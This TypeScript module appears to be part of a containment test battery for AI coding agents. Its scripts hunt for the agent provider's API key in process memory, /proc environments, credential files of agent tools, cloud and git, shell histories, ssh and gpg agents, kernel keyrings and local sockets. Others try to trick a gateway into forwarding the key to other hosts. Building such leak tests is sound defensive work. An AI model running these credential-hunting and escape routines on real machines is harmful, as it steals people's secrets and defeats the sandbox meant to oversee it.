import { node, type Traces, type Uncategorized } from '../attempt.ts';

/**
 * Before every script here: it ends where no key is lent, and `look` searches bytes for the provider's key. The forms it
 * looks for are backwards (`scene.ts`): no process that searches holds what another one would find.
 */
const BEFORE = String.raw`
  const fs = require('node:fs');
  const { join } = require('node:path');
  const { HOME, REAL_HOME, WORK, STATE, BATTERY_KEY, BATTERY_BASE_URL } = process.env;
  if (!BATTERY_KEY) { console.log('LACKS gateway that adds the key'); return; }
  const forms = process.env.KEY_BACKWARDS.split(' ').map((form) => Buffer.from(form));
  const until = Date.now() + 9000;
  let looked = 0;
  const look = (place, bytes) => {
    looked += 1;
    const backwards = Buffer.from(bytes).reverse();
    if (forms.some((form) => backwards.includes(form))) escaped('the key is in ' + place);
  };
  const attempt = (task) => { try { return task(); } catch {} };
  const read = (file) => attempt(() => {
    const { size } = fs.statSync(file);
    if (fs.statSync(file).isFile() && size < 2 ** 24) look(file, fs.readFileSync(file));
  });
  const walk = (folder, depth = 8) => attempt(() => {
    for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
      if (Date.now() > until) return;
      if (entry.isDirectory()) entry.name === 'node_modules' || depth === 0 || walk(join(folder, entry.name), depth - 1);
      else read(join(folder, entry.name));
    }
  });
  // The newest first: where the host's processes show, there are many.
  const others = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid)).reverse();
  const run = (...command) => {
    const { spawnSync } = require('node:child_process');
    const [file, ...args] = command;
    const input = 'protocol=https\nhost=' + new URL(BATTERY_BASE_URL).host + '\n\n';
    const { stdout, stderr } = spawnSync(file, args, { input, timeout: 5000, cwd: WORK });
    look(command.join(' '), Buffer.concat([stdout || Buffer.alloc(0), stderr || Buffer.alloc(0)]));
  };
  const ask = async (port, head) => look(head, await say({ host: '127.0.0.1', port: Number(port) }, head + '\r\n\r\n'));
`;

const AFTER = `
  console.log('looked at ' + looked);`;

/** A place inside where the key of the agent's provider could be, and what reads it. */
const place = (id: string, where: string) => (script: TemplateStringsArray) =>
  node(`key-${id}`, `find the provider's key in ${where}`)`${BEFORE}${String.raw(script)}${AFTER}`;

const PLACES: readonly Uncategorized[] = [
  place('own-environment', 'its own environment')`
    for (const [name, value] of Object.entries(process.env)) if (name !== 'KEY_BACKWARDS') look(name, value);`,
  place('environments', 'the environments of other processes')`
    for (const pid of others) read('/proc/' + pid + '/environ');`,
  place('command-lines', 'command lines of processes and of the kernel')`
    for (const pid of others) for (const name of ['cmdline', 'comm', 'stat']) read('/proc/' + pid + '/' + name);
    read('/proc/cmdline');`,
  place('memory', 'the memory of other processes')`
    for (const pid of others) attempt(() => {
      const memory = fs.openSync('/proc/' + pid + '/mem', 'r');
      for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'latin1').split('\n')) {
        const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) || [];
        const size = parseInt(to, 16) - parseInt(from, 16);
        if (!(size <= 2 ** 26) || Date.now() > until) continue;
        attempt(() => {
          const bytes = Buffer.alloc(size);
          fs.readSync(memory, bytes, 0, size, parseInt(from, 16));
          look('the memory of process ' + pid, bytes);
        });
      }
    });`,
  place('open-files', 'files that other processes hold open')`
    for (const pid of others) for (const fd of attempt(() => fs.readdirSync('/proc/' + pid + '/fd')) || []) {
      read('/proc/' + pid + '/fd/' + fd);
    }`,
  place('mounts', 'mounts, control groups and limits of processes')`
    for (const pid of ['self', ...others]) for (const name of ['mountinfo', 'cgroup', 'limits', 'status', 'maps']) {
      read('/proc/' + pid + '/' + name);
    }`,
  place('home', 'the home folder')`
    walk(HOME);`,
  place('logins', 'login files of agents and of tools')`
    for (const home of [HOME, REAL_HOME, '/root']) for (const name of [
      '.claude/.credentials.json', '.claude.json', '.claude/settings.json', '.codex/auth.json', '.codex/config.toml',
      '.gemini/oauth_creds.json', '.gemini/.env', '.env', '.local/share/opencode/auth.json', '.copilot/config.json',
      '.factory/auth.json', '.factory/settings.json', '.netrc', '.npmrc', '.config/gh/hosts.yml', '.aws/credentials',
      '.docker/config.json', '.config/anthropic/config.json',
    ]) read(join(home, name));`,
  place('history', 'histories and start files of shells')`
    for (const home of [HOME, REAL_HOME, '/root']) for (const name of [
      '.bash_history', '.zsh_history', '.sh_history', '.python_history', '.node_repl_history', '.bashrc', '.profile',
      '.bash_profile', '.zshrc', '.zshenv', '.config/fish/config.fish', '.local/share/fish/fish_history', '.envrc',
    ]) read(join(home, name));
    for (const file of ['/etc/environment', '/etc/profile', '/etc/bash.bashrc']) read(file);`,
  place('temp', 'folders for temporary files')`
    for (const folder of ['/tmp', '/var/tmp', '/dev/shm', process.env.TMPDIR || '/tmp']) walk(folder);`,
  place('work-tree', 'the work tree')`
    for (const name of fs.readdirSync(WORK)) if (name !== '.git') { read(join(WORK, name)); walk(join(WORK, name)); }`,
  place('git-dir', 'the git dir: settings, hooks, objects, logs')`
    walk(join(WORK, '.git'));
    run('git', 'log', '--all', '-p', '--max-count=200');`,
  place('git-credentials', "git's settings and credential helpers")`
    run('git', 'config', '--list', '--show-origin');
    run('git', '-c', 'core.askPass=', '-c', 'credential.interactive=false', 'credential', 'fill');
    for (const helper of ['store', 'cache', 'libsecret']) run('git', 'credential-' + helper, 'get');`,
  place('records', 'journals, logs and transcripts of runs')`
    for (const folder of [join(WORK, '.ralph'), join(WORK, '.git/ralph'), STATE, join(HOME, '.local/state'),
      join(HOME, '.claude/projects'), join(HOME, '.codex/sessions'), join(HOME, '.cache')]) walk(folder);`,
  place('system', "the system's own files")`
    for (const folder of ['/etc', '/run', '/var/log', '/var/lib/systemd', '/srv', '/mnt', '/media']) walk(folder, 3);`,
  place('toolchains', 'toolchains and their settings')`
    walk(process.env.NVM_DIR, 4);
    for (const folder of [join(process.execPath, '../../etc'), '/usr/local/etc', '/usr/etc']) walk(folder, 4);
    read(join(process.env.PACKAGE, '.env'));`,
  place('agents', "the person's ssh, gpg and password agents")`
    const uid = process.getuid();
    const sockets = [process.env.SSH_AUTH_SOCK, process.env.AGENT_OF_PERSON, REAL_HOME + '/.gnupg/S.gpg-agent',
      ...['gnupg/S.gpg-agent', 'keyring/ssh', 'keyring/control', 'bus'].map((name) => '/run/user/' + uid + '/' + name)];
    for (const path of sockets) if (path) {
      for (const text of ['\0\0\0\x01\x0b', 'KEYINFO --list\n', '\0AUTH EXTERNAL\r\n']) look(path, await say({ path }, text));
    }`,
  place('keyring', 'keyrings of the kernel')`
    for (const file of ['/proc/keys', '/proc/key-users']) read(file);
    const script = 'my @rings = (-3, -4, -5); my %seen; while (defined(my $id = shift @rings)) { my $text = "\\0" x 4096;' +
      ' my $call = (POSIX::uname())[4] eq "x86_64" ? 250 : 219; my $length = syscall($call, 11, $id, $text, 4096);' +
      ' next if $length < 1 || $length > 4096 || $seen{$id}++; $text = substr($text, 0, $length); print $text;' +
      ' push @rings, unpack("l*", $text) if $length % 4 == 0; }';
    run('perl', '-MPOSIX', '-e', script);`,
  place('sockets', 'answers of every Unix socket in sight')`
    const listed = attempt(() => fs.readFileSync('/proc/net/unix', 'latin1').split('\n')) || [];
    const paths = listed.flatMap((line) => line.split(/ +/).slice(7).join(' ') || []);
    for (const folder of ['/run', '/tmp', '/var/run']) {
      const all = attempt(() => fs.readdirSync(folder, { recursive: true, withFileTypes: true })) || [];
      paths.push(...all.filter((entry) => entry.isSocket()).map((entry) => join(entry.parentPath, entry.name)));
    }
    const request = 'GET / HTTP/1.1\r\nHost: localhost\r\n\r\n';
    // The kernel shows each NUL of an abstract name as @, and Node may fill the name up with them.
    const nameOf = (path) => path.replace(/^@(.*?)@*$/, '\0$1');
    const knock = async (path) => look(path, await say({ path: nameOf(path) }, request));
    await Promise.all([...new Set(paths)].map(knock));`,
  place('gateway', 'answers of the gateway')`
    const carried = ['', '\r\nx-api-key: ' + BATTERY_KEY, '\r\nauthorization: Bearer ' + BATTERY_KEY];
    const { port } = new URL(BATTERY_BASE_URL);
    for (const header of carried) {
      for (const path of ['/', '/env', '/credentials', '/../', '/v1/models?' + BATTERY_KEY]) {
        await ask(port, 'GET ' + path + ' HTTP/1.1\r\nHost: localhost' + header);
      }
      await ask(port, 'TRACE / HTTP/1.1\r\nHost: localhost' + header);
      await ask(port, 'OPTIONS * HTTP/1.1\r\nHost: localhost' + header);
      await ask(new URL(HTTP_PROXY).port, 'TRACE http://localhost:' + process.env.ALLOWED + '/ HTTP/1.1\r\nHost: localhost' + header);
    }`,
];

/** Whether one of these requests is of this attempt: its path names it. */
const ofAttempt = ({ id }: Traces) => `/key/${id}`;

/** What uses the key instead of finding it: `$BATTERY_BASE_URL` is what an agent is told, `$BATTERY_KEY` its stand-in. */
const USES: readonly Uncategorized[] = [
  node('key-is-added', 'have the key added to a request with the stand-in', {
    check: async (traces) => {
      if (!traces.lends) return null;
      const heard = traces.provider.find(({ text }) => text.includes(ofAttempt(traces)));
      if (!heard) return 'the request did not reach the provider';
      return heard.text.includes(`x-api-key: ${traces.key}`) ? null : 'the provider got the request without the key';
    },
  })`${BEFORE}
    const { port } = new URL(BATTERY_BASE_URL);
    await ask(port, 'POST /key/' + process.env.ID + ' HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nx-api-key: ' + BATTERY_KEY);`,
  node('key-guessed', 'have it added without the stand-in, with a guessed one, or with one in the wrong place', {
    check: async (traces) =>
      traces.provider.some(({ text }) => text.includes(ofAttempt(traces))) ? 'the provider was reached' : null,
  })`${BEFORE}
    const { port } = new URL(BATTERY_BASE_URL);
    const path = '/key/' + process.env.ID;
    for (const guess of ['', BATTERY_KEY.slice(0, -1), BATTERY_KEY.slice(0, -4) + '0000', BATTERY_KEY.toUpperCase(), '*']) {
      await ask(port, 'GET ' + path + ' HTTP/1.1\r\nHost: localhost\r\nx-api-key: ' + guess);
    }
    await ask(port, 'GET ' + path + '?key=' + BATTERY_KEY + ' HTTP/1.1\r\nHost: localhost');
    await ask(port, 'POST ' + path + ' HTTP/1.1\r\nHost: localhost\r\nContent-Length: ' + BATTERY_KEY.length + '\r\n\r\n' + BATTERY_KEY);`,
  node('key-elsewhere', 'have it sent to another provider, another host or another port', {
    check: async ({ key, elsewhere, otherProvider, id }) => {
      if (elsewhere.some(({ text }) => text.includes(key))) return 'another host got the key';
      return otherProvider.some(({ text }) => text.includes(key) || text.includes(ofAttempt({ id } as Traces)))
        ? 'another provider got the request'
        : null;
    },
  })`${BEFORE}
    const { port } = new URL(BATTERY_BASE_URL);
    const { ALLOWED, LOCAL, OTHER_PROVIDER, ID } = process.env;
    for (const other of [OTHER_PROVIDER, ALLOWED, LOCAL]) {
      const host = '127.0.0.1:' + other;
      for (const path of ['/key/' + ID, '//' + host + '/key/' + ID, 'http://' + host + '/key/' + ID, '/@' + host + '/key/' + ID]) {
        await ask(port, 'GET ' + path + ' HTTP/1.1\r\nHost: ' + host + '\r\nx-api-key: ' + BATTERY_KEY);
      }
      await ask(port, 'CONNECT ' + host + ' HTTP/1.1\r\nHost: ' + host + '\r\nx-api-key: ' + BATTERY_KEY);
      await ask(new URL(HTTP_PROXY).port, 'GET http://localhost:' + other + '/key/' + ID + ' HTTP/1.1\r\nHost: localhost:' + other + '\r\nx-api-key: ' + BATTERY_KEY);
    }`,
];

/** Where agents get a stand-in for the key of their provider: what must not lead to the key itself. */
export const KEYS: readonly Uncategorized[] = [...PLACES, ...USES];
